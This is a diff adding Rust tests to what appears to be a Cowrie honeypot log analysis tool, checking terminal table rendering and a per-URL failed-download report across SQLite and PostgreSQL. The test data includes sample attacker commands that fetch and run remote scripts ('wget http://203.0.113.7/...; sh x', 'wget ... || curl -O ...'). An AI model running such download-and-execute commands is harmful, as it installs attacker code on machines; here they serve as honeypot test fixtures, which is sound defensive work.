@@ -377,3 +377,103 @@ async fn windows_all_year_and_ranges_cover_what_they_say() {
     }
     assert_eq!(per_backend[0], per_backend[1], "SQLite and PostgreSQL disagree");
 }
+
+fn one_table(
+    columns: Vec<(&str, cowrieql::check::ir::Ty)>,
+    rows: Vec<Vec<cowrieql::report::Value>>,
+) -> cowrieql::report::run::ReportResult {
+    cowrieql::report::run::ReportResult {
+        name: "t".into(),
+        title: "T".into(),
+        description: String::new(),
+        params: Vec::new(),
+        window: None,
+        generated_at: Utc::now(),
+        backend: "sqlite",
+        results: vec![cowrieql::report::run::QueryResult {
+            name: "rows".into(),
+            title: Some("Rows".into()),
+            chart: None,
+            columns: columns.into_iter().map(|(n, t)| (n.to_string(), t)).collect(),
+            rows,
+        }],
+        views: Vec::new(),
+    }
+}
+
+/// Text tables fit a terminal's width in display columns, keep numbers whole, and show
+/// empty strings and booleans as such; without a width every value is whole.
+#[test]
+fn text_tables_fit_the_terminal_and_count_display_columns() {
+    use cowrieql::check::ir::Ty;
+    use cowrieql::report::render::render_fit;
+    use cowrieql::report::Value;
+    let long = format!("cd /tmp; wget http://203.0.113.7/{}; sh x", "a".repeat(150));
+    let cjk = "echo 你好世界你好世界你好世界你好世界你好世界你好世界 🦀🦀🦀🦀";
+    let r = one_table(
+        vec![("command", Ty::Text), ("n", Ty::Int), ("ok", Ty::Bool)],
+        vec![
+            vec![Value::Text(long.clone()), Value::Int(1_234_567), Value::Bool(true)],
+            vec![Value::Text(cjk.into()), Value::Int(2), Value::Bool(false)],
+            vec![Value::Text(String::new()), Value::Int(3), Value::Null],
+        ],
+    );
+    let width = |s: &str| unicode_width::UnicodeWidthStr::width(s);
+    let fitted = render_fit(&r, Format::Text, None, None, Some(60)).unwrap();
+    let table: Vec<&str> = fitted.lines().skip_while(|l| !l.starts_with("command")).collect();
+    assert_eq!(table.len(), 5, "{fitted}");
+    for l in &table {
+        assert!(width(l) <= 60, "{} columns: {l}", width(l));
+    }
+    assert!(table[2].starts_with("cd /tmp; wget http://203.0.113.7/aaa") && table[2].contains('…'), "{fitted}");
+    assert!(table[2].contains("1234567") && table[2].ends_with("true"), "numbers and booleans whole: {fitted}");
+    assert!(table[3].contains('…') && table[3].ends_with("false"), "{fitted}");
+    // Wide characters: the columns after the command line up with the header's.
+    let col_of = |l: &str, needle: &str| width(&l[..l.find(needle).unwrap()]);
+    assert_eq!(col_of(table[2], "true"), col_of(table[3], "false"), "{fitted}");
+    assert_eq!(col_of(table[2], "1234567") + 6, col_of(table[3], "2"), "{fitted}");
+    assert!(table[4].starts_with("(empty)"), "{fitted}");
+
+    let whole = render_fit(&r, Format::Text, None, None, None).unwrap();
+    assert!(whole.contains(&long) && whole.contains(cjk), "full values without a width");
+}
+
+/// Failed downloads are listed per URL with attempts and sessions side by side: wget and
+/// curl on one URL in one command are two attempts in one session.
+#[tokio::test]
+async fn failed_download_attempts_have_their_own_section() {
+    let tmp = tempfile::tempdir().unwrap();
+    let f = tmp.path().join("failed.json");
+    std::fs::write(
+        &f,
+        r#"{"eventid":"cowrie.session.connect","session":"s1","src_ip":"10.0.0.1","sensor":"a","timestamp":"2025-09-22T10:00:00Z"}
+{"eventid":"cowrie.command.input","session":"s1","src_ip":"10.0.0.1","sensor":"a","input":"wget http://x/d.sh || curl -O http://x/d.sh","timestamp":"2025-09-22T10:00:01Z"}
+{"eventid":"cowrie.session.file_download.failed","session":"s1","src_ip":"10.0.0.1","sensor":"a","url":"http://x/d.sh","error":"refused","timestamp":"2025-09-22T10:00:02Z"}
+{"eventid":"cowrie.session.file_download.failed","session":"s1","src_ip":"10.0.0.1","sensor":"a","url":"http://x/d.sh","error":"refused","timestamp":"2025-09-22T10:00:03Z"}
+{"eventid":"cowrie.session.file_download.failed","session":"s1","src_ip":"10.0.0.9","sensor":"b","url":"http://x/d.sh","timestamp":"2025-09-22T11:00:00Z"}
+{"eventid":"cowrie.session.file_download_failed","session":"s2","src_ip":"10.0.0.9","sensor":"b","url":"http://y/e.sh","timestamp":"2025-09-22T12:00:00Z"}
+{"eventid":"cowrie.session.file_download","session":"s2","src_ip":"10.0.0.9","sensor":"b","url":"http://y/ok.sh","shasum":"ab","outfile":"o","timestamp":"2025-09-22T12:00:05Z"}
+"#,
+    )
+    .unwrap();
+    let mut per_backend = Vec::new();
+    for db in both().await {
+        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
+        let report = builtin::builtin("downloads").unwrap().unwrap();
+        let r = run(&db.store, &report, &p(&[("window", "2025-09-22")]), Utc::now()).await.unwrap();
+        let failed = r.results.iter().find(|q| q.name == "failed").expect("a failed section");
+        let cells: Vec<Vec<String>> =
+            failed.rows.iter().map(|r| r[..4].iter().map(|v| v.display()).collect()).collect();
+        // url, attempts, sessions (a/s1 and b/s1 are two), sources.
+        assert_eq!(
+            cells,
+            vec![vec!["http://x/d.sh", "3", "2", "2"], vec!["http://y/e.sh", "1", "1", "1"]],
+            "{}",
+            db.label
+        );
+        let urls = &r.results[0];
+        assert_eq!(urls.rows.len(), 1, "{}: only the successful download among the URLs", db.label);
+        per_backend.push(cells);
+    }
+    assert_eq!(per_backend[0], per_backend[1]);
+}
